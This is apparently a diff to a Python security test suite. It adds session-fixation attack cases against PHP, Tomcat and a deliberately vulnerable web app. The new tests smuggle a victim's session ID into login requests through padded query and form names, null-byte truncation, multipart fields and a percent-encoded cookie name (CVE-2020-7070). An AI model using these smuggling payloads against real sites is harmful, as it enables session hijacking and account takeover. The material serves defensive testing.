@@ -7,7 +7,7 @@ import threading
 import time
 
 from browser import Gone
-from scene import Task, is_inside, logged_in, login, try_all
+from scene import URLENCODED, Task, is_inside, logged_in, login, multipart, try_all
 from socket_visit import SocketVisit
 
 STEP = 0.005  # seconds between two tries of an attacker who polls
@@ -130,6 +130,36 @@ def id_in_login_query(scene):
     return try_all(scene, [value])
 
 
+def id_in_query_padded(scene):
+    """PHP drops blanks before a name, however many: a name that is too long to be looked at is still the name."""
+    value = scene.app.valid_id()
+    login(scene.browser(), query=f"?{'%20' * 300}{scene.app.cookie}={value}")
+    return try_all(scene, [value])
+
+
+def id_in_form_padded(scene):
+    value = scene.app.valid_id()
+    scene.browser().post("/login", (URLENCODED, (
+        f"user=alice&password=wonderland&{'+' * 300}{scene.app.cookie}={value}").encode()))
+    return try_all(scene, [value])
+
+
+def id_in_query_cut(scene):
+    """PHP ends a name at a zero byte."""
+    value = scene.app.valid_id()
+    login(scene.browser(), query=f"?{scene.app.cookie}%00x={value}")
+    return try_all(scene, [value])
+
+
+def id_in_encoded_cookie(scene):
+    """PHP before 7.2.34 decoded the names of cookies (CVE-2020-7070)."""
+    name, value = scene.app.cookie, scene.app.valid_id()
+    victim = scene.browser()
+    victim.jar.plant(f"%{ord(name[0]):02X}{name[1:]}", value)
+    login(victim)
+    return try_all(scene, [value])
+
+
 def id_in_path(scene):
     value, name = scene.app.valid_id(), scene.app.cookie.lower() if scene.app.name == "Tomcat" else scene.app.cookie
     login(scene.browser(), query=f";{name}={value}")
@@ -142,10 +172,13 @@ def id_in_form(scene):
 
 
 def id_in_multipart_form(scene):
-    def post(victim, value):
-        body = f'--b\r\nContent-Disposition: form-data; name="{scene.app.cookie}"\r\n\r\n{value}\r\n--b--\r\n'
-        return victim.post("/home", ("multipart/form-data; boundary=b", body.encode()))
-    return planted_by(scene, post)
+    return planted_by(scene, lambda victim, value: victim.post("/home", multipart(**{scene.app.cookie: value})))
+
+
+def id_in_login_multipart(scene):
+    value = scene.app.valid_id()
+    scene.browser().post("/login", multipart(user="alice", password="wonderland", **{scene.app.cookie: value}))
+    return try_all(scene, [value])
 
 
 def id_in_login_form(scene):
@@ -335,7 +368,9 @@ def socket_after_logout(scene):
 
 # What works against each app. Those that need gates and a ledger are for the vulnerable one.
 _ALL = (own_valid_id, own_login, tossed_by_a_sibling, replay_after_logout)
-OF_PHP = _ALL + (invented_id, id_in_login_query, id_in_login_form)
+_OF_FORMS = _ALL + (invented_id, id_in_login_query, id_in_login_form, id_in_login_multipart)
+OF_PHP = _OF_FORMS + (id_in_query_padded, id_in_form_padded, id_in_query_cut)
 OF_TOMCAT = _ALL + (id_in_path,)
-OF_VULNERABLE = OF_PHP + (id_in_path, id_in_query, id_in_query_encoded, id_in_form, id_in_multipart_form, raw_inner,
-                          late_set_cookie, race_of_logins, committed_login, given_up_login, socket_from_before, socket_after_logout)
+OF_VULNERABLE = _OF_FORMS + (id_in_path, id_in_query, id_in_query_encoded, id_in_form, id_in_multipart_form,
+                             id_in_encoded_cookie, raw_inner, late_set_cookie, race_of_logins, committed_login, given_up_login,
+                             socket_from_before, socket_after_logout)
